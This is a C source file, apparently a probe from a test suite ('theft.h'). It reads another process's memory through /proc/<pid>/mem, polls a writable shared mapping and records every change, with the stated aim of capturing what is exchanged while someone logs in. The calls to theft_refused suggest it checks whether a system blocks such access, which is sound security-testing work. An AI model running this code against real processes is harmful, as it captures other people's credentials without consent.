/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Watch the memory that the target shares with others, as fast as can be, and
 * keep all that changes: what goes to and fro while somebody logs on.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "theft.h"

#define LARGEST (1u << 20)
#define LINE	256u

static const struct area *
shared(const struct theft *t)
{
	for (size_t i = 0; i < t->areas; i++) {
		const struct area *a = &t->area[i];

		/* A monitor of virtual machines shares a page with the kernel, too. */
		if (a->perms[3] == 's' && a->perms[1] == 'w' &&
		    strstr(a->name, "secretmem") == NULL && strstr(a->name, "kvm") == NULL &&
		    a->end - a->start <= LARGEST)
			return a;
	}
	return NULL;
}

int
main(int argc, char **argv)
{
	static uint8_t now[LARGEST], before[LARGEST];
	static struct theft t;
	const struct area *a = NULL;
	char path[64];
	double until = 0;
	int mem = -1;

	theft_begin(&t, argc, argv);
	snprintf(path, sizeof(path), "/proc/%d/mem", t.pid);
	mem = open(path, O_RDONLY | O_CLOEXEC);
	if (mem < 0)
		theft_refused("open %s: %m", path);
	a = shared(&t);
	if (a == NULL)
		theft_refused("it shares no memory");
	until = theft_now() + theft_patience(5);
	while (theft_now() < until && t.octets < THEFT_LARGEST) {
		size_t size = a->end - a->start;

		if (pread(mem, now, size, (off_t)a->start) != (ssize_t)size)
			theft_refused("read %s: %m", path);
		for (size_t at = 0; at < size; at += LINE) {
			if (memcmp(now + at, before + at, LINE) != 0)
				theft_write(&t, now + at, LINE);
		}
		memcpy(before, now, size);
	}
	theft_end(&t, "shared memory, watched");
}
